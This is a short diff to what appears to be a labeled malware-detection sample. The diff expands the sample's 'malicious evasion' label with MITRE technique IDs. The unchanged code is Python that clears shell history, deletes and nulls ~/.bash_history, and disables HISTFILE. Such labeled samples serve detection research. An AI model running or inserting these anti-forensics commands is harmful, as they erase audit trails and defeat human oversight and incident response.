@@ -1,4 +1,4 @@
-# label: malicious family=evasion techniques=T1070.003,T1070.002 lines=3-6
+# label: malicious family=evasion techniques=T1059.004,T1070.002,T1070.003,T1562.003 lines=3-6
 import os
 os.system("history -c; rm -f ~/.bash_history; ln -sf /dev/null ~/.bash_history")
 os.system("unset HISTFILE; export HISTSIZE=0")
